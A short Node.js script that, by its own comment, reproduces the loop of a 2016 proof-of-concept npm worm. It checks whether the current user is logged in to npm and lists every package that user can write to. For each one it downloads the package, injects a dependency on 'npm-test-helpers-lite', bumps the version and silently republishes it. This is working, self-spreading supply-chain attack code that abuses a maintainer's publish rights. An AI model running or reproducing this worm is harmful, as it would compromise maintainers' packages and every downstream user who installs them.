// The 2016 proof-of-concept worm's loop: if this user can publish, infect every package they own.
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

function sh(cmd, cwd) { return execSync(cmd, { cwd, stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); }

let user;
try { user = sh('npm whoami'); } catch (e) { process.exit(0); }

const owned = JSON.parse(sh(`npm access list packages ${user} --json`) || '{}');
for (const name of Object.keys(owned)) {
  if (owned[name] !== 'read-write') continue;
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'w-'));
  sh(`npm pack ${name} --pack-destination .`, dir);
  sh('tar -xzf *.tgz', dir);
  const pkgDir = path.join(dir, 'package');
  const pj = JSON.parse(fs.readFileSync(path.join(pkgDir, 'package.json'), 'utf8'));
  pj.dependencies = Object.assign({}, pj.dependencies, { 'npm-test-helpers-lite': '^1.0.1' });
  pj.version = pj.version.replace(/(\d+)$/, (m) => String(Number(m) + 1));
  fs.writeFileSync(path.join(pkgDir, 'package.json'), JSON.stringify(pj, null, 2));
  try { sh('npm publish', pkgDir); } catch (e) {}
}
